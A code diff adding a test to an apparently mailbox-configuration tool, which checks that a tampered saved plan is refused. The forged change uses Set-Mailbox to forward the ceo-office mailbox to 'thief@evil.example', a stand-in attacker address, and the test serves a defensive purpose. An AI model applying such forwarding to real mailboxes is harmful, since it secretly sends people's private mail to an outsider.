@@ -162,3 +162,22 @@ def test_replaying_a_plan_after_a_later_apply_moved_the_mailbox(cli, repo: Repo,
     assert run.code == 0 and "already applied on" in run.out, run.out + run.err
     assert state.read_bytes() == recorded  # the record is not rewritten to the old move
     assert "No changes." in cli("plan", repo.root).out
+
+
+def test_a_change_for_a_resource_the_repository_does_not_declare_is_refused(cli, repo: Repo,
+                                                                           tmp_path: Path):
+    """An unmanaged mailbox is only ever reported; a change added to the file that writes to
+    it (checksum recomputed) does not match what planning it now gives."""
+    repo.yaml(LONDON, SUPPORT)
+    out, saved = _save_plan(cli, repo, tmp_path)
+    unmanaged = next(c for c in saved["changes"] if c["action"] == "unmanaged"
+                     and c["id"] == "ceo-office@contoso.com")
+    forged = {**unmanaged, "action": "update", "operations": [{"cmdlet": "Set-Mailbox",
+              "parameters": {"Identity": "ceo-office@contoso.com",
+                             "ForwardingSmtpAddress": "smtp:thief@evil.example"}}]}
+    saved["changes"][saved["changes"].index(unmanaged)] = forged
+    _rewrite(out, saved)
+    run = cli("apply", out, "--path", repo.root)
+    assert run.code == 1 and "stale" in run.err
+    assert "ceo-office@contoso.com" in run.err
+    assert repo.backend.write_count == 0
